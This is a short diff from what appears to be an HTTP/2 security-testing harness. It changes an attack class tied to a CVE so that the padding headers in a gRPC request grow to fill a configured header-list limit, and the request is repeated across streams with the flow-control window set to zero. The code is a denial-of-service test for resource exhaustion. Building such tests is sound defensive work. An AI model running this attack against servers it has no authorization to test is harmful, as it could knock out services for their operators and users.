@@ -172,7 +172,8 @@ const retainedHeaders: AttackClass = {
   seen: "CVE-2026-56846",
   layer: "http2",
   run: (range) => {
-    const filler = Array.from({ length: 14 }, (_, at) => literal(`x-kept-${at}`, "k".repeat(1_000)));
+    const count = Math.floor(limits.rpcHeaderListMaxBytes / 1_100);
+    const filler = Array.from({ length: count }, (_, at) => literal(`x-kept-${at}`, "k".repeat(1_000)));
     const block = grpcCall(servedPath(range.endpoint), ...filler);
     return hoard(range, (nth) => headers(nth * 2 + 1, block), [SETTING.window, 0]);
   },
